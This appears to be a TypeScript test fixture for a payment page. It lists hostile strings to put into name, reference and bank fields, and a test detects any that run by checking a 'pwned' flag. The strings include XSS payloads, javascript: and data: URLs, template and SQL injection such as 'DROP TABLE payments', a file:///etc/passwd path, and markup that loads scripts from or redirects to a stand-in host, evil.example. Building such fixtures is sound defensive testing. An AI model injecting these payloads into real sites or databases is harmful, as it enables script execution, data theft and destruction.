// Texts that somebody might put where a name, a reference or a bank's word stands. Each `pwned` would be seen by a test.

const kRun = 'globalThis.pwned=1';

const markup = [
  `<script>${kRun}</script>`, `</script><script>${kRun}</script>`, `<ScRiPt>${kRun}</sCrIpT>`, `<script/x>${kRun}</script>`,
  `<script src=https://evil.example/x.js></script>`, `<script>alert(1)`, `<<script>${kRun}//<</script>`, `<script\n>${kRun}</script\n>`,
  `<img src=x onerror=${kRun}>`, `"><img src=x onerror=${kRun}>`, `'><img src=x onerror=${kRun}>`, `<img/src=x/onerror=${kRun}>`,
  `<img src="https://evil.example/pixel.png">`, `<image src=x onerror=${kRun}>`, `<svg onload=${kRun}>`, `<svg><script>${kRun}</script></svg>`,
  `<svg><animate onbegin=${kRun} attributeName=x dur=1s>`, `<body onload=${kRun}>`, `<iframe src=javascript:${kRun}></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<object data=javascript:${kRun}>`, `<embed src=javascript:${kRun}>`,
  `<video><source onerror=${kRun}></video>`, `<details open ontoggle=${kRun}>`, `<input autofocus onfocus=${kRun}>`, `<select autofocus onfocus=${kRun}>`,
  `<textarea autofocus onfocus=${kRun}>`, `<marquee onstart=${kRun}>`, `<a href=javascript:${kRun}>x</a>`, `<form action=javascript:${kRun}><button>x</button></form>`,
  `<base href=https://evil.example/>`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<style>*{background:url(https://evil.example/x)}</style>`, `<div style="background:url(https://evil.example/x)">`, `<!--<script>${kRun}</script>-->`,
  `<![CDATA[<script>${kRun}</script>]]>`, `<?xml version="1.0"?><script>${kRun}</script>`, `<math><mtext><script>${kRun}</script></mtext></math>`,
  `<template><script>${kRun}</script></template>`, `<noscript><img src=x onerror=${kRun}></noscript>`, `<xss contenteditable onblur=${kRun}>`,
  `<table background="javascript:${kRun}">`, `<portal src="https://evil.example/">`, `<bdo dir=rtl>x</bdo>`, `<h1>Paid</h1>`, `<main><button>Pay</button></main>`,
];

const addresses = [
  `javascript:${kRun}`, `JaVaScRiPt:${kRun}`, `java\tscript:${kRun}`, ` javascript:${kRun}`, `javascript://%0a${kRun}`, `vbscript:msgbox(1)`,
  `data:text/html,<script>${kRun}</script>`, `data:text/javascript,${kRun}`, `//evil.example/x`, `https://evil.example/"onmouseover="${kRun}`,
  `https://evil.example/ onload=${kRun}`, `blob:https://evil.example/x`, `file:///etc/passwd`, `about:blank`, `\\\\evil.example\\share`,
  `https://evil.example@127.0.0.1/`, `http://127.0.0.1:9/<script>`, `leanlink://success?status=SUCCESS`,
];

const templates = [
  `{{${kRun}}}`, '{{constructor.constructor("globalThis.pwned=1")()}}', '${globalThis.pwned=1}', '#{globalThis.pwned=1}', '<%= 7*7 %>', '{merchant}', '{amount} {payee}',
  '{{amount}}', '%s%s%n', '%00', '$&$`$\'$1', '\\u003cscript\\u003e', '&lt;script&gt;', '&#60;script&#62;', '&amp;amp;', '__proto__', 'constructor', 'toString', 'hasOwnProperty',
];

const quotes = [
  `"`, `'`, '`', `\\`, `"';${kRun};//`, `');${kRun};//`, `" autofocus onfocus=${kRun} x="`, `' style='position:fixed;inset:0`, `--></script>`, `*/${kRun}/*`, `;${kRun}`,
  `' OR '1'='1`, `'; DROP TABLE payments; --`, `red;background:url(https://evil.example/x)`, `url(https://evil.example/x)`, `var(--accent)`, `expression(${kRun})`,
];

const letters = [
  '\u202Epaid \u202C', '\u2066isolated', '\u200Fمن اليمين', 'Zal\u0334go\u0335 t\u0336e\u0337x\u0338t\u0301\u0302\u0303\u0304', '\uFEFFfirst', 'a\u0000b'.replace('\u0000', '\u0001'), '𝕊𝕔𝕣𝕚𝕡𝕥', '👩‍👩‍👧‍👦 🏴‍☠️',
  'ﷺ ﷽', '\uFFFF\uFFFE', 'x'.repeat(256), 'W'.repeat(120), 'م'.repeat(200), 'long word '.repeat(20).trim(), '٠١٢٣٤٥٦٧٨٩', 'undefined', 'null', 'NaN', '[object Object]', '-0', '1e999',
];

export const kHostile: readonly string[] = [...markup, ...addresses, ...templates, ...quotes, ...letters];
